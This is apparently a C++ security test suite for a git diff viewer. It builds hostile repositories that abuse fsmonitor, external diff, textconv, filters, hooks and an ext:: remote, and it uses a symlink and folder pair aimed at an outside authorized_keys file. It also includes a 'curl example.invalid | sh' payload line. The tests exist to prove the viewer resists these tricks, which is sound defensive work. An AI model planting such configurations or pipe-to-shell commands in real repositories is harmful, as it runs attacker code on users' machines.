// Inspecting a file must never run a program that the inspected repository names. Each case first
// proves that plain `git diff HEAD` does run the repository's program, then that the loader does not
// and still returns git's diff of the file.

#include "viewer/GitDiffLoader.h"

#include "QtPrinters.h"
#include "TestRepo.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <utime.h>

namespace {

const QString kPayload = "payload.txt";

enum class Twist {
    None,
    CrlfFile,      // the payload has CRLF line ends, which the twin's plain diff drops as the viewer must
    IndexHook,     // post-index-change hook, fired when a refresh rewrites the index
    PromisorFetch, // partial clone whose missing blob is fetched through an ext:: command
};

struct HostileCase
{
    const char* name;
    const char* attributes; // .gitattributes of the repository
    const char* configKey;  // set to a planted script; nullptr: none
    const char* scriptRest; // what the script does after marking
    Twist twist;
};

const HostileCase kCases[] = {
    {"fsmonitor hook", "", "core.fsmonitor", "exit 1", Twist::None},
    {"external diff tool", "", "diff.external", "exit 0", Twist::None},
    {"textconv driver", "*.txt diff=evil\n", "diff.evil.textconv", "cat \"$1\"", Twist::None},
    {"clean filter", "*.txt filter=evil\n", "filter.evil.clean", "cat", Twist::None},
    {"long-running filter process", "*.txt filter=evil\n", "filter.evil.process", "exit 1", Twist::None},
    {"clean filter beside eol attributes", "*.txt text eol=crlf filter=evil\n", "filter.evil.clean", "cat",
     Twist::CrlfFile},
    {"post-index-change hook", "", nullptr, "", Twist::IndexHook},
    {"promisor fetch of a missing blob", "", nullptr, "", Twist::PromisorFetch},
};

void writeBase(TestRepo& repo, const HostileCase& c)
{
    repo.init();
    if (*c.attributes)
        repo.write(".gitattributes", c.attributes);
    repo.write(kPayload, "echo safe\n");
    repo.write("other.txt", "unrelated\n");
}

// A repository whose configuration makes plain `git diff HEAD` start a program that appends to a
// marker outside it, with the payload modified since HEAD, and a "twin" with the same files and
// nothing configured, whose plain diff is what the viewer must show.
struct HostileRepo
{
    QTemporaryDir markers;
    QString marker = markers.filePath("ran");
    TestRepo repo;
    TestRepo twin;
    QString file; // what the viewer opens
    QByteArray expectedDiff;

    explicit HostileRepo(const HostileCase& c)
    {
        writeBase(twin, c);
        twin.commitAll();
        if (c.twist == Twist::PromisorFetch) {
            // The twin serves the blob; a blobless clone only knows its name.
            twin.plumb({"config", "uploadpack.allowFilter", "true"});
            const QString clone = repo.path("clone");
            repo.plumb(
                {"clone", "-q", "--filter=blob:none", "--no-checkout", "file://" + twin.root(), clone});
            repo.plumb({"-C", clone, "read-tree", "HEAD"});
            repo.plumb({"-C", clone, "config", "protocol.ext.allow", "always"});
            repo.plumb({"-C", clone, "config", "remote.origin.url", "ext::sh -c echo% ran% >>" + marker});
            file = repo.write("clone/" + kPayload, "echo pwned\n");
            return; // the blob cannot be fetched, so there is nothing to compare with: no diff
        }
        writeBase(repo, c);
        repo.commitAll();
        // Scripts live inside .git, where they are never committed, like an attacker's would in a
        // repository unpacked from an archive.
        const auto plantScript = [&](const QString& relative, const char* rest) {
            return repo.writeProgram(
                relative, QStringLiteral("#!/bin/sh\necho ran >> '%1'\n%2\n").arg(marker, rest).toUtf8());
        };
        if (c.configKey)
            repo.plumb(
                {"config", QString::fromUtf8(c.configKey), plantScript(".git/evil/script", c.scriptRest)});
        file = repo.path(kPayload);
        if (c.twist == Twist::IndexHook) {
            plantScript(".git/hooks/post-index-change", "");
            // Same content, newer time: a refresh rewrites the index, which fires the hook.
            const utimbuf past{1000000000, 1000000000};
            ::utime(QFile::encodeName(file).constData(), &past);
            repo.plumb({"update-index", "--refresh"});
            ::utime(QFile::encodeName(file).constData(), nullptr);
            return;
        }
        const QByteArray modified = c.twist == Twist::CrlfFile ? "echo pwned\r\ncurl example.invalid | sh\r\n"
                                                               : "echo pwned\ncurl example.invalid | sh\n";
        repo.write(kPayload, modified);
        twin.write(kPayload, modified);
        expectedDiff = twin.plainDiff(kPayload);
    }
};

TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
{
    for (const HostileCase& c : kCases) {
        SCOPED_TRACE(c.name);
        const HostileRepo hostile(c);
        QFile::remove(hostile.marker);
        plainGitDiff(hostile.file);
        ASSERT_TRUE(QFileInfo::exists(hostile.marker))
            << "plain git did not run the planted program: the case proves nothing";
        QFile::remove(hostile.marker);

        const QString diff = loadGitDiff(hostile.file);
        EXPECT_FALSE(QFileInfo::exists(hostile.marker));
        EXPECT_EQ(diff.toUtf8().toStdString(), hostile.expectedDiff.toStdString());
        if (c.twist == Twist::None || c.twist == Twist::CrlfFile)
            EXPECT_TRUE(diff.contains("+curl example.invalid | sh"));
    }
}

// HEAD holds a symbolic link `x` to a folder outside and a folder `x/` of the same name (git fsck
// calls it a duplicate entry; clone and fetch take it). Recreating `x` as a link and then writing
// `x/authorized_keys` would write outside the scratch folder.
TEST(ViewerHostileRepo, TreeWithALinkAndAFolderOfOneNameWritesNothingOutside)
{
    TestRepo outside; // a plain folder, never made a repository
    outside.write("authorized_keys", "ssh-ed25519 AAAA owner\n");
    TestRepo repo;
    repo.init();
    const QStringList blobIn = {"hash-object", "-w", "--stdin"};
    const QByteArray key = repo.plumb(blobIn, "ssh-ed25519 AAAA attacker\n");
    const QByteArray link = repo.plumb(blobIn, QFile::encodeName(outside.root()));
    const QByteArray sub = repo.plumb({"mktree"}, "100644 blob " + key + "\tauthorized_keys\n");
    const QByteArray tree =
        repo.plumb({"mktree"}, "120000 blob " + link + "\tx\n040000 tree " + sub + "\tx\n");
    const QByteArray commit = repo.plumb({"commit-tree", QString::fromLatin1(tree), "-m", "c"});
    repo.plumb({"update-ref", "HEAD", QString::fromLatin1(commit)});

    const QString diff = loadGitDiff(repo.path("x"));
    QFile f(outside.path("authorized_keys"));
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(f.readAll(), QByteArray("ssh-ed25519 AAAA owner\n"));
    EXPECT_EQ(QDir(outside.root()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
              QStringList{"authorized_keys"});
    EXPECT_EQ(diff, nestedTreeNote("x"));
}

} // namespace
